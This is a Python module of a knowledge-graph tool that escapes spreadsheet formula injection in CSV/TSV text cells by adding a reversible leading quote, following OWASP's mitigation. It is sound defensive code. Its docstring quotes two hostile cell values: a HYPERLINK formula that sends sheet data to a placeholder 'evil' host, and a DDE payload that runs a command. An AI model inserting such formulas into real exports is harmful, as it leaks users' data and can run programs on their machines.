"""Text cells safe to open in a spreadsheet: the one rule every CSV/TSV writer of kgbuild uses.

Names, sentences and titles come from the corpus and from LLM output, which is untrusted text.
Excel, LibreOffice Calc and Google Sheets read a CSV/TSV cell whose first character is ``=``,
``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in front does not stop them:
a node named ``=HYPERLINK("http://evil/?"&A1,"click")`` sends the sheet's data away when
clicked, and ``-2+3+cmd|' /C calc'!A0`` asked old Excel to run a program (DDE). OWASP's
"CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection) gives the
mitigation used here: a cell that begins with ``=``, ``+``, ``-``, ``@``, tab (0x09) or
carriage return (0x0D) is prefixed with a single quote ``'``, which a spreadsheet takes as
"this cell is text". The full-width forms of the four signs (``＝ ＋ － ＠``, which some
spreadsheets accept as formula signs from East Asian input) are treated the same: it costs
nothing.

Two refinements make the mark exact rather than lossy:

* **Only text cells.** A writer calls this on the cells of *text* columns, chosen by the
  column's type, never by guessing from the content: ``-1.5`` in a number column is a number
  and stays one, while the name ``-1.5`` in a text column is marked.
* **Reversible.** A text cell that already begins with ``'`` gets a second one, so every
  marked cell begins with ``'`` and every cell that begins with ``'`` was marked:
  :func:`raw_text` (drop one leading ``'``) gives back the value exactly. kgbuild's own
  LadybugDB loader reads the Neo4j CSVs that way; ``unmark.cypher`` does it after
  ``neo4j-admin`` (:mod:`kgbuild.export.neo4j`).

The raw value stays unchanged where no spreadsheet reads it: Parquet exports and snapshots,
``kgbuild sql --format json``, the catalog.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # Arrow is imported by the column functions only: `kgbuild sql` starts faster
    import pyarrow as pa

#: The mark put in front of a text cell a spreadsheet would otherwise read as a formula.
MARK = "'"
#: First characters a spreadsheet reads as the start of a formula (OWASP's list, then the
#: full-width forms of its four signs).
FORMULA_START = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
#: First characters that get the mark: those, and the mark itself (so it can be removed exactly).
MARKED_START = FORMULA_START + MARK
_MARKED = "^[" + re.escape(MARKED_START) + "]"


def text_cell(value: str) -> str:
    """``value`` as a spreadsheet-safe text cell: ``'`` in front if it begins with a formula
    sign, tab, carriage return or ``'`` (see the module doc); otherwise unchanged."""
    return MARK + value if value[:1] and value[0] in MARKED_START else value


def raw_text(cell: str) -> str:
    """The value :func:`text_cell` was given: one leading ``'`` removed."""
    return cell[1:] if cell.startswith(MARK) else cell


def text_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """:func:`text_cell` on every value of an Arrow string column (nulls stay null)."""
    import pyarrow.compute as pc

    marked = pc.match_substring_regex(column, _MARKED)
    return pc.if_else(marked, pc.binary_join_element_wise(MARK, column, ""), column)


def raw_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """:func:`raw_text` on every value of an Arrow string column (nulls stay null)."""
    import pyarrow.compute as pc

    marked = pc.starts_with(column, MARK)
    return pc.if_else(marked, pc.utf8_slice_codeunits(column, 1), column)


def text_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """A record batch whose string columns (by type) are spreadsheet-safe; others unchanged."""
    import pyarrow as pa

    columns = [
        text_column(col) if pa.types.is_string(col.type) or pa.types.is_large_string(col.type)
        else col
        for col in batch.columns
    ]  # fmt: skip
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)
